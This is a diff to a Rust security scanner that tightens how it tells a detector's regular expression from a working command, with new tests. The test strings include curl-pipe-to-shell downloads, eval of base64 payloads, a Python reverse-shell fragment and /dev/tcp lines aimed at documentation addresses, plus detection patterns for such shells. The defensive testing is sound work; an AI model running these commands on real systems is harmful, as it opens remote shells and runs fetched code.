@@ -8,8 +8,9 @@
 //!   its own sentence, and only where what is warned of is running it, and nothing else is asked
 //!   for in between: "do not skip this step" warns of nothing, "do not use sudo and paste" asks.
 //! - A **detector's pattern** counts in JavaScript and Python, where the match holds
-//!   regular-expression classes (`\s`, `\b`) in place of every blank: no shell runs that text, nor
-//!   does one with a class put in beside it.
+//!   regular-expression classes (`\s`, `\b`) in place of every blank, and nothing that an attack
+//!   needs and a pattern does not: no address, no name with a dot, no blob, no call. What is
+//!   turned into a command afterwards (`.replace("\\s", " ")`) has nowhere to fetch from.
 
 use super::severity::Context;
 use crate::neutral::{CopiedFile, Language, Origin};
@@ -64,6 +65,10 @@ const ACTS: [&str; 22] = [
 const TURNS: [&str; 8] = ["but", "instead", "unless", "until", "without", "rather", "and", "then"];
 /// A warning's act follows it within this many words.
 const ACT_WITHIN: usize = 3;
+/// In a pattern: more is an address or a port.
+const MOST_DIGITS: usize = 3;
+/// In a pattern: a longer run without a class or a group is data.
+const LONGEST_WORD: usize = 20;
 const REGEX_CLASSES: [&str; 7] = [r"\s", r"\S", r"\b", r"\d", r"\w", "(?:", "[^"];
 
 /// What lowers a bundled rule's certainty at a place. `path` is the repository path, `root` the
@@ -79,8 +84,7 @@ pub fn context(file: &CopiedFile, root: Option<&str>, before: &str, matched: &st
             file.language,
             Language::JavaScript | Language::TypeScript | Language::Tsx | Language::Python
         )
-        && REGEX_CLASSES.iter().any(|class| matched.contains(class))
-        && !matched.contains([' ', '\t', '$']);
+        && is_pattern(matched);
     if in_quiet_folder || warned || detector { Context::Doubtful } else { Context::Plain }
 }
 
@@ -118,6 +122,38 @@ fn is_prose(path: &str, file: &CopiedFile) -> bool {
 fn in_folder(path: &str, folders: &[&str]) -> bool {
     let Some((above, _)) = path.rsplit_once('/') else { return false };
     above.split('/').any(|part| folders.iter().any(|folder| part.eq_ignore_ascii_case(folder)))
+}
+
+/// Whether a match is a regular expression that no shell runs and that names nothing to run.
+fn is_pattern(matched: &str) -> bool {
+    if !REGEX_CLASSES.iter().any(|class| matched.contains(class))
+        || matched.contains([' ', '\t', '$'])
+    {
+        return false;
+    }
+    let (mut digits, mut blob) = (0usize, 0usize);
+    // The three characters before, the nearest first.
+    let mut behind = ['\0'; 3];
+    let mut chars = matched.chars().peekable();
+    while let Some(c) = chars.next() {
+        let next = chars.peek().copied().unwrap_or('\0');
+        let escaped = behind.first() == Some(&'\\') && behind.get(1) != Some(&'\\');
+        digits = if c.is_ascii_digit() { digits + 1 } else { 0 };
+        blob = if c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') { blob + 1 } else { 0 };
+        let name = c == '.' && !escaped && !matches!(next, '*' | '+' | '?' | '{');
+        let address = behind == ['/', '/', ':'] && (c.is_alphanumeric() || c == '[' && next == ':');
+        let call = c == '(' && !escaped && behind.first().is_some_and(|b| b.is_alphanumeric());
+        // JavaScript and Python write any character this way, blanks among them.
+        let spelt =
+            escaped && matches!(c, 't' | 'x' | 'u' | 'U' | 'N' | 'v' | 'f' | 'r' | '0'..='9');
+        if name || address || call || spelt || digits > MOST_DIGITS || blob > LONGEST_WORD {
+            return false;
+        }
+        behind = [c, behind[0], behind[1]];
+    }
+    !["/dev/tcp/", "/dev/udp/"].iter().any(|device| {
+        matched.split(device).skip(1).any(|rest| rest.starts_with(char::is_alphanumeric))
+    })
 }
 
 /// Two words for one act.
@@ -236,6 +272,34 @@ mod tests {
         }
         let script = file("setup.sh", Language::Shell, Origin::File);
         assert_eq!(context(&script, None, "", r"bash\s+-i\s+>&"), Context::Plain);
+    }
+
+    #[test]
+    fn a_class_in_a_command_that_works_makes_no_detector() {
+        let js = file("run.js", Language::JavaScript, Origin::File);
+        let py = file("run.py", Language::Python, Origin::File);
+        for trick in [
+            r#"{curl,-A,"\s",http://192.0.2.9/i}|bash"#,
+            r"curl<x(?:)\s\nhttp://192.0.2.9/i.sh|sh",
+            r"fetch('http://192.0.2.9/\s').then(eval)",
+            r#"eval(Buffer.from("ZXhhbXBsZQ==ZXhhbXBsZQ==","base64")+/\s/)"#,
+            r#"exec(base64.b64decode("ZXhhbXBsZQ=="))#[^"#,
+            r#"s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);re.sub(r"\b","","")"#,
+            r"/dev/tcp/192.0.2.9/4444\x20\s",
+            r"curl\thttp://192.0.2.9/i\s|sh",
+        ] {
+            for code in [&js, &py] {
+                assert_eq!(context(code, None, "", trick), Context::Plain, "{trick}");
+            }
+        }
+        for detector in [
+            r"bash\s+-i\s+>&\s*/dev/tcp/",
+            r"curl[^|\n]*\|\s*(?:ba)?sh",
+            r"curl\s+.*\|\s*(?:ba|z)?sh",
+            r"nc\s+-[ec]\s+/bin/sh",
+        ] {
+            assert_eq!(context(&py, None, "", detector), Context::Doubtful, "{detector}");
+        }
     }
 
     #[test]
